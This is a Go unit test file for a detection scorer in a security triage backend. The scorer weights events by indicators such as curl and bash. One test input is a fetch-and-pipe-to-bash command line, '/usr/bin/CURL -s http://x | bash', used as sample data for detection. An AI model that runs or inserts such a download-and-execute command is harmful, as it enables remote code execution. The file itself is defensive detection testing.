package rules

import (
	"testing"

	"github.com/sgerhart/aegisflux/backend/triage/internal/model"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestScorer_Score(t *testing.T) {
	scorer, err := NewScorer(DefaultWeights)
	require.NoError(t, err)

	tests := []struct {
		name     string
		event    *model.Event
		expected int
	}{
		{
			name: "curl over the network sums without clamping",
			event: &model.Event{
				EventType:  model.EventTypeNetworkConnection,
				Attributes: map[string]interface{}{"process": "curl"},
			},
			expected: 120,
		},
		{
			name: "bash process start",
			event: &model.Event{
				EventType:  model.EventTypeProcessStart,
				Attributes: map[string]interface{}{"process": "bash"},
			},
			expected: 50,
		},
		{
			name: "command line attribute is searched",
			event: &model.Event{
				EventType:  model.EventTypeProcessStart,
				Attributes: map[string]interface{}{"command_line": "/usr/bin/CURL -s http://x | bash"},
			},
			expected: 130,
		},
		{
			name: "file write with benign process",
			event: &model.Event{
				EventType:  model.EventTypeFileWrite,
				Attributes: map[string]interface{}{"process": "nginx"},
			},
			expected: 30,
		},
		{
			name: "other attributes are not searched",
			event: &model.Event{
				EventType:  model.EventTypeProcessStart,
				Attributes: map[string]interface{}{"path": "/tmp/curl"},
			},
			expected: 0,
		},
		{
			name: "wrong typed process attribute is neutral",
			event: &model.Event{
				EventType:  model.EventTypeProcessStart,
				Attributes: map[string]interface{}{"process": 42},
			},
			expected: 0,
		},
		{
			name:     "nil event",
			event:    nil,
			expected: 0,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.expected, scorer.Score(tt.event))
		})
	}
}

func TestScorer_InvalidTable(t *testing.T) {
	tests := []struct {
		name    string
		weights map[string]int
	}{
		{name: "empty", weights: map[string]int{}},
		{name: "negative weight", weights: map[string]int{"curl": -1}},
		{name: "blank indicator", weights: map[string]int{"  ": 10}},
		{name: "case collision", weights: map[string]int{"curl": 40, "CURL": 40}},
		{name: "whitespace collision", weights: map[string]int{"bash": 10, " bash ": 20}},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := NewScorer(tt.weights)
			require.Error(t, err)
			var verr *ValidationError
			assert.ErrorAs(t, err, &verr)
		})
	}
}

func TestScorer_Update(t *testing.T) {
	scorer, err := NewScorer(map[string]int{"curl": 10})
	require.NoError(t, err)

	ev := &model.Event{EventType: model.EventTypeProcessStart, Attributes: map[string]interface{}{"process": "curl"}}
	assert.Equal(t, 10, scorer.Score(ev))

	require.NoError(t, scorer.Update(map[string]int{"Curl": 25, "process_start": 5}))
	assert.Equal(t, 30, scorer.Score(ev))
	assert.Equal(t, map[string]int{"curl": 25, "process_start": 5}, scorer.Weights())

	// A rejected update keeps the old table
	assert.Error(t, scorer.Update(map[string]int{"curl": -1}))
	assert.Error(t, scorer.Update(map[string]int{"curl": 40, "Curl": 40}))
	assert.Equal(t, 30, scorer.Score(ev))
}
